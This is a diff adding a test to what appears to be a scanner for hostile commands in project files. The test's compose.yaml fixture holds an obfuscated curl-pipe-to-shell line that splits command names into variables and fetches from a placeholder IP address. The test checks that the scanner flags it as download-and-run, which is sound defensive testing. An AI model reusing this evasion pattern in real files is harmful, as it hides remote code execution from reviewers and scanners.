@@ -50,3 +50,15 @@ def test_a_template_of_a_local_tool_filled_from_settings_stays_quiet(tmp_path: P
         "conf/links.yaml": "docs: https://pandoc.org/MANUAL.html\n",
     }
     assert scan_errors(tmp_path, files) == set()
+
+
+def test_a_command_with_parameter_expansions_no_data_file_fills_is_still_read_as_a_script(tmp_path: Path) -> None:
+    # compose doubles `$` to keep it from its own interpolation; `$${1:-bash}` is a slot no sibling fills
+    command = (
+        "services:\n  warm:\n    image: debian:12-slim\n    command:\n      - bash\n      - -c\n      - |\n"
+        '        shell="$${1:-bash}"\n'
+        "        a=cu; b=rl; c=s; e=h; u=203.0.113.9/w\n"
+        "        $${a}$${b}$${IFS}-$${c}$${IFS}http://$${u}|$${c}$${e}\n"
+    )
+    files = {"compose.yaml": command, "settings.json": '{"region": "eu"}\n'}
+    assert any(rule == "DOWNLOAD_AND_RUN" and path == "compose.yaml" for rule, path, _ in scan_errors(tmp_path, files))
